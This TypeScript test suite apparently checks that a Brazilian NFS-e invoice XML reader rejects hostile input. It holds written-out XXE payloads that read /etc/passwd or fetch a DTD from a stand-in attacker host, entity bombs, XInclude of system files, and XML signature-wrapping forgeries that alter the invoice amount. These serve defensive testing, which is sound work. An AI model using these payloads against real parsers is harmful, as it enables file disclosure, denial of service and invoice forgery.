import { describe, expect, it } from 'vitest'
import {
  escreverAbrasf,
  escreverEventoCancelamento,
  escreverNfseNacional,
} from '../sinteticos/index.ts'
import { bytesDe, codigo, lidos, nota, notaFicticia } from '../testes/ficticios.ts'
import { gastoDesde } from '../testes/gasto.ts'
import { LIMITES_XML } from '../xml/index.ts'
import { lerDocumentosFiscais } from './ler.ts'

const bom = escreverNfseNacional(notaFicticia)
const comProlog = (prologo: string, corpo = bom) =>
  corpo.replace(/^<\?xml.*?\?>/, (decl) => `${decl}${prologo}`)
const ID = /Id="(NFS[^"]+)"/.exec(bom)?.[1] ?? ''
const infNFSe = /<infNFSe.*<\/infNFSe>/s.exec(bom)?.[0] ?? ''
const assinatura = /<Signature.*<\/Signature>/s.exec(bom)?.[0] ?? ''

const mil = (n: number, f: (i: number) => string) =>
  Array.from({ length: n }, (_, i) => f(i)).join('')

/** Every file here was built to hurt whoever reads it. */
const ENTIDADES: Record<string, string> = {
  'XXE of a file': comProlog(
    '<!DOCTYPE NFSe [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    bom.replace('Consultoria', '&x;'),
  ),
  'XXE of an address': comProlog('<!DOCTYPE NFSe SYSTEM "http://ataque.exemplo/x.dtd">'),
  'parameter entity': comProlog('<!DOCTYPE a [<!ENTITY % p SYSTEM "http://ataque.exemplo/p">%p;]>'),
  'billion laughs': comProlog(
    `<!DOCTYPE a [<!ENTITY l0 "ha">${mil(12, (i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`)}]>`,
    bom.replace('Consultoria', '&l12;'),
  ),
  'quadratic blow-up': comProlog(
    `<!DOCTYPE a [<!ENTITY g "${'A'.repeat(100_000)}">]>`,
    bom.replace('Consultoria', '&g;'.repeat(10_000)),
  ),
  'empty DOCTYPE': comProlog('<!DOCTYPE NFSe>'),
  'DOCTYPE in lower case': comProlog('<!doctype NFSe>'),
  'DOCTYPE after the root': `${bom}<!DOCTYPE a [<!ENTITY x "y">]>`,
  'ENTITY inside the root': bom.replace('<infNFSe', '<!ENTITY x "y"><infNFSe'),
  'XXE in UTF-16 that says UTF-8': comProlog('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///a">]>'),
}

describe('XML com entidades', () => {
  it.each(Object.entries(ENTIDADES))('%s', (_, xml) => {
    expect(codigo(xml)).toBe('xml-com-doctype')
  })

  it('finds the DOCTYPE behind UTF-16', () => {
    const xml = ENTIDADES['XXE of a file'] ?? ''
    const bytes = new Uint8Array(2 + xml.length * 2)
    bytes.set([0xff, 0xfe])
    for (let i = 0; i < xml.length; i++) bytes[2 + i * 2] = xml.charCodeAt(i) & 0xff
    expect(codigo(bytes)).toBe('xml-com-doctype')
  })

  it.each([
    '<!DOCTYPE html>\n<html lang="pt-BR"><body>Sua sessão expirou<br></body></html>',
    '<html><head></head></html>',
    '<?xml version="1.0"?>\n<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html></html>',
  ])('a page of the portal saved in the place of the note is told as one: %s', (pagina) => {
    const r = lerDocumentosFiscais(bytesDe(pagina))
    expect(r.ok ? undefined : r.refusal).toMatchObject({
      codigo: 'pagina-da-internet',
      mensagem: 'É uma página da internet, não a nota: baixe o XML de novo no portal.',
    })
  })

  it('a page that declares entities is still an attack', () => {
    expect(codigo('<!DOCTYPE html [<!ENTITY x SYSTEM "file:///a">]><html>&x;</html>')).toBe(
      'xml-com-doctype',
    )
  })

  it('says the line', () => {
    const r = lerDocumentosFiscais(bytesDe('<?xml version="1.0"?>\n\n<!DOCTYPE a><a/>'))
    expect(r.ok ? undefined : r.refusal.linha).toBe(3)
  })

  it('knows no entity but the five of XML, not even those every object inherits', () => {
    for (const nome of ['x', 'nbsp', 'constructor', '__proto__', 'toString']) {
      expect(codigo(bom.replace('Consultoria', `&${nome};`))).toBe('xml-malformado')
    }
    expect(nota(bom.replace('Consultoria', '&amp;&#x41;&#66;')).descricao).toMatch(/^&AB/)
    expect(codigo(bom.replace('Consultoria', '&#0;'))).toBe('xml-malformado')
  })

  it('includes nothing from outside', () => {
    const xi =
      '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    expect(codigo(bom.replace('Consultoria', xi))).toBe('xml-malformado')
    expect(nota(bom.replace('<xLocEmi>', `${xi}<xLocEmi>`)).bruto).toBe(150_000)
  })
})

describe('XML que pesa', () => {
  const CASOS: [string, string, () => string][] = [
    ['100,000 deep', 'xml-profundo-demais', () => `<NFSe>${'<a>'.repeat(100_000)}`],
    ['1,000,000 elements', 'xml-complexo-demais', () => `<NFSe>${'<a/>'.repeat(1_000_000)}</NFSe>`],
    ['giant attribute', 'xml-complexo-demais', () => `<NFSe a="${'x'.repeat(4_000_000)}"/>`],
    [
      '350,000 attributes',
      'xml-complexo-demais',
      () => `<NFSe ${mil(350_000, (i) => `a${i}="" `)}/>`,
    ],
    ['giant name', 'leiaute-desconhecido', () => `<${'n'.repeat(4_000_000)}/>`],
    ['giant comment', 'xml-complexo-demais', () => `<NFSe><!--${'-a'.repeat(2_000_000)}--></NFSe>`],
    ['a million references', 'leiaute-desconhecido', () => `<a>${'&amp;'.repeat(800_000)}</a>`],
    [
      'many cancellations under one parent',
      'sem-documento',
      () => `<CancelarNfseResposta>${'<NfseCancelamento/>'.repeat(119_000)}</CancelarNfseResposta>`,
    ],
    ['never closes', 'xml-malformado', () => `<a>${'<b>x</b>'.repeat(60_000)}`],
    ['many opened comments', 'xml-complexo-demais', () => '<!--'.repeat(1_000_000)],
    ['only opening brackets', 'xml-malformado', () => '<'.repeat(4_000_000)],
    ['only spaces', 'xml-vazio', () => ' '.repeat(4_000_000)],
    ['declarations without end', 'xml-malformado', () => '<?xml '.repeat(600_000)],
    [
      'a key that is all digits',
      'sem-documento',
      () => `<listaNfse>${'9'.repeat(4_000_000)}</listaNfse>`,
    ],
  ]

  it.each(CASOS)('%s', (_, esperado, gerar) => {
    const bytes = bytesDe(gerar())
    const inicio = process.threadCpuUsage()
    const lido = codigo(bytes)
    const ms = gastoDesde(inicio)
    expect(lido).toBe(esperado)
    // 50 ms on a quiet machine.
    expect(ms).toBeLessThan(400)
  })

  it('refuses by size before looking', () => {
    expect(codigo(new Uint8Array(LIMITES_XML.bytes + 1))).toBe('xml-grande-demais')
    const r = lerDocumentosFiscais(bytesDe(bom), { ...LIMITES_XML, bytes: 100 })
    expect(r.ok ? '' : r.refusal.codigo).toBe('xml-grande-demais')
  })
})

describe('arquivos que não são o que dizem', () => {
  it.each([
    ['empty', new Uint8Array(), 'xml-vazio'],
    ['only a BOM', Uint8Array.of(0xef, 0xbb, 0xbf), 'xml-vazio'],
    ['a PDF', bytesDe('%PDF-1.7 texto'), 'nao-e-xml'],
    ['JSON', bytesDe('{"chave": 1}'), 'nao-e-xml'],
    ['zeros', new Uint8Array(5000), 'nao-e-xml'],
    [
      'noise',
      Uint8Array.from({ length: 5000 }, (_, i) => (i * 7919) % 251),
      'charset-desconhecido',
    ],
    [
      'UTF-7',
      bytesDe('<?xml version="1.0" encoding="UTF-7"?>+ADw-NFSe+AD4-'),
      'charset-desconhecido',
    ],
    ['UTF-32', Uint8Array.of(0xff, 0xfe, 0, 0, 0x3c, 0, 0, 0), 'charset-desconhecido'],
    ['EBCDIC', bytesDe('<?xml version="1.0" encoding="cp037"?><a/>'), 'charset-desconhecido'],
    ['half UTF-16', Uint8Array.of(0xff, 0xfe, 0x3c, 0xd8), 'charset-desconhecido'],
    ['HTML', bytesDe('<html><body>erro 500</body></html>'), 'pagina-da-internet'],
    ['an answer without notes', bytesDe('<ConsultarNfseResposta/>'), 'sem-documento'],
    ['two roots', bytesDe(`${bom}${bom.replace(/^<\?xml.*?\?>/, '')}`), 'xml-malformado'],
    ['control characters', bytesDe(bom.replace('Consultoria', '\u0001')), 'xml-malformado'],
  ])('%s', (_, bytes, esperado) => {
    expect(codigo(bytes)).toBe(esperado)
  })

  it('refuses the file cut at any place', () => {
    const bytes = bytesDe(bom)
    for (let n = 1; n < bytes.length; n += 37) expect(codigo(bytes.subarray(0, n))).not.toBe('lido')
  })

  it('does not let an overlong encoding bring a bracket in', () => {
    const bytes = bytesDe(bom.replace('Consultoria', '~~xLgr>'))
    const i = bytes.indexOf(0x7e)
    // C0 BC is "<" for decoders that accept overlong forms.
    bytes.set([0xc0, 0xbc], i)
    expect(nota(bytes).descricao).toContain('À¼xLgr>')
  })
})

describe('texto partido dentro de um campo', () => {
  it('joins what a comment, CDATA or instruction splits, as the signed form does', () => {
    for (const corte of ['<!-- x -->', '<![CDATA[]]>', '<?pi x?>']) {
      const partido = bom.replaceAll('11222333000181<', `11222333${corte}000181<`)
      expect(nota(partido).prestador.documento).toBe('11222333000181')
    }
    expect(nota(bom.replace('>1500.00<', '>1<![CDATA[500]]>.00<')).bruto).toBe(150_000)
  })

  it('refuses elements inside a value, and a value given twice', () => {
    const dentro = bom.replaceAll('11222333000181<', '11222333<b/>000181<')
    expect(codigo(dentro)).toBe('xml-malformado')
    const dobrado = bom.replace(
      '<vServ>1500.00</vServ>',
      '<vServ>1500.00</vServ><vServ>1.00</vServ>',
    )
    expect(codigo(dobrado)).toBe('campo-repetido')
    const doisCnpjs = bom.replaceAll(
      '<CNPJ>11222333000181</CNPJ>',
      '<CNPJ>11222333000181</CNPJ><CNPJ>44555666000190</CNPJ>',
    )
    expect(codigo(doisCnpjs)).toBe('campo-repetido')
  })
})

describe('campo maior do que campo algum', () => {
  it('is refused', () => {
    const r = codigo(bom.replace('Consultoria', 'x'.repeat(40_000)))
    expect(r).toBe('valor-invalido')
  })
})

describe('assinatura que cobre outra coisa', () => {
  const falsa = infNFSe.replaceAll(ID, `${ID.slice(0, -1)}0`).replace('1500.00', '9.00')
  const ns = 'xmlns="http://www.sped.fazenda.gov.br/nfse"'
  const dentroDaAssinatura = assinatura.replace(
    '</Signature>',
    `<Object>${infNFSe}</Object></Signature>`,
  )
  const CASOS: Record<string, string> = {
    'forged note, original inside Object (XSW1, XSW4)': `<NFSe ${ns}>${falsa}${dentroDaAssinatura}</NFSe>`,
    'forged note beside the original (XSW3)': `<NFSe ${ns}>${falsa}${infNFSe}${assinatura}</NFSe>`,
    'original beside the forged note': `<NFSe ${ns}>${infNFSe}${falsa}${assinatura}</NFSe>`,
    'original inside the forged note (XSW2, XSW7)': `<NFSe ${ns}>${falsa.replace('<xLocEmi>', `<x>${infNFSe}</x><xLocEmi>`)}${assinatura}</NFSe>`,
    'original in a wrapper under the same note (XSW8)': `<NFSe ${ns}>${falsa}<x>${infNFSe}</x>${assinatura}</NFSe>`,
    'two equal Ids': `<lote><NFSe>${infNFSe}${assinatura}</NFSe><NFSe>${infNFSe.replace('1500.00', '9.00')}</NFSe></lote>`,
    'equal Id in another element': bom.replace('<emit>', `<emit Id="${ID}">`),
    'reference to another Id': bom.replace(`URI="#${ID}"`, 'URI="#outro"'),
    'two references': bom.replace(/<Reference.*<\/Reference>/, (r) => r + r),
    'two signatures': bom.replace('</NFSe>', `${assinatura}</NFSe>`),
    'a note hidden in another, neither signed': `<NFSe ${ns}>${falsa.replace('<xLocEmi>', `<x>${infNFSe}</x><xLocEmi>`)}</NFSe>`,
    'DPS signed elsewhere': bom.replace(
      '</infDPS>',
      `</infDPS>${assinatura.replace(`#${ID}`, '#outra')}`,
    ),
    'no reference': bom.replace(/<Reference.*<\/Reference>/, ''),
  }

  it.each(Object.entries(CASOS))('%s', (_, xml) => {
    expect(codigo(xml)).toBe('assinatura-ambigua')
  })

  it('reads a note without signature, and says so', () => {
    expect(nota(bom.replace(assinatura, '')).assinada).toBe(false)
    expect(nota(bom).assinada).toBe(true)
    expect(nota(bom.replace(`URI="#${ID}"`, 'URI=""')).assinada).toBe(true)
  })

  it('guards events the same way', () => {
    const evento = escreverEventoCancelamento({
      chave: ID.slice(3),
      autor: '11222333000181',
      quando: '2026-11-03T09:00:00-03:00',
    })
    expect(codigo(evento.replace('URI="#EVT', 'URI="#EVX'))).toBe('assinatura-ambigua')
  })

  it('reads municipal lists that repeat Ids, without calling them signed', () => {
    const uma = (n: number) =>
      /<CompNfse>.*<\/CompNfse>/.exec(
        escreverAbrasf({ ...notaFicticia, numero: n })
          .replace(/Id="nfse\d+"/, 'Id="nfse"')
          .replace('</InfNfse>', `</InfNfse>${assinatura.replace(`#${ID}`, '#nfse')}`),
      )?.[0] ?? ''
    const lista = lidos(`<ListaNfse>${uma(1)}${uma(2)}</ListaNfse>`)
    expect(lista.map((d) => d.assinada)).toEqual([false, false])
    expect(lidos(`<ListaNfse>${uma(1)}</ListaNfse>`)[0]?.assinada).toBe(true)
  })
})
